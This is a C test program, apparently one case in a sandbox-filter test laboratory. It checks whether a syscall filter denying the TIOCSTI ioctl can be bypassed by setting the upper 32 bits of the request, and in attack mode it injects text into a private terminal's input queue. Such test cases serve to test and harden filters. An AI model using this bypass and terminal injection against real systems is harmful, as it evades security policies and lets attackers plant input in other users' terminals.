// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: an argument that the kernel takes as 32 bits is judged by its 32 bits,
 * whatever the upper half of the register holds (catalogue C7).
 *
 *	ioctl(fd, TIOCSTI, c)		denied: arg[1] == TIOCSTI
 *	ioctl(fd, TIOCSTI | 1 << 32, c)	the same to the kernel
 *
 * The terminal is private to the run. A win puts the text of inject= into its
 * input queue, where the laboratory's end sees the echo. The benign twin asks
 * the terminal something else and writes print= to it.
 */
#include "attack.h"

#include <sys/ioctl.h>
#include <termios.h>

/* The command is an exact register, with no junk but the bit that is asked for. */
static long command(int terminal, unsigned long request, bool high, const void *argument)
{
	unsigned long bit = high ? (unsigned long)(UINT64_C(1) << 32) : 0;

	return syscall(SYS_ioctl, JUNK(terminal), request | bit, argument);
}

static void inject(struct run *run, int terminal, bool high)
{
	long result = 0;

	for (const char *at = run->inject; *at && result >= 0; at++)
		result = command(terminal, TIOCSTI, high, at);
	run_result(run, result);
}

static void print(struct run *run, int terminal)
{
	int queued = 0;

	if (command(terminal, TIOCOUTQ, false, &queued) < 0)
		run_result(run, -1);
	else
		run_result(run, write(terminal, run->print, strlen(run->print)));
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);
	int terminal = raw_open(run.tty, O_RDWR | O_NOCTTY);

	if (terminal < 0)
		broken("%s: %s", run.tty, strerror(errno));
	run.attempts = 1;
	switch (run.mode) {
	case MODE_BENIGN:
		print(&run, terminal);
		break;
	case MODE_DIRECT:
		inject(&run, terminal, false);
		break;
	case MODE_ATTACK:
		inject(&run, terminal, true);
		break;
	}
	run_end(&run);
}
